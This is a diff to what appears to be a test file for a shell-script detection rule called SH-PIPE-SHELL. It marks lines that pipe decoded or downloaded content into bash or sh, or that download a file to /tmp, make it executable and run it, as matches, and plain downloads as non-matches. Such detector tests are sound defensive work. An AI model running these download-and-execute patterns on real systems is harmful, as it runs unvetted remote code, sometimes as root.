@@ -10,3 +10,10 @@ echo aWQ= | base64 -d | sudo bash
 curl -s http://example.com | head
 # ok: SH-PIPE-SHELL
 echo "curl http://example.com | sh"
+wget -q -O /tmp/a http://example.com/a
+chmod +x /tmp/a
+# ruleid: SH-PIPE-SHELL
+/tmp/a
+curl -o data.csv http://example.com/data.csv
+# ok: SH-PIPE-SHELL
+sort data.csv
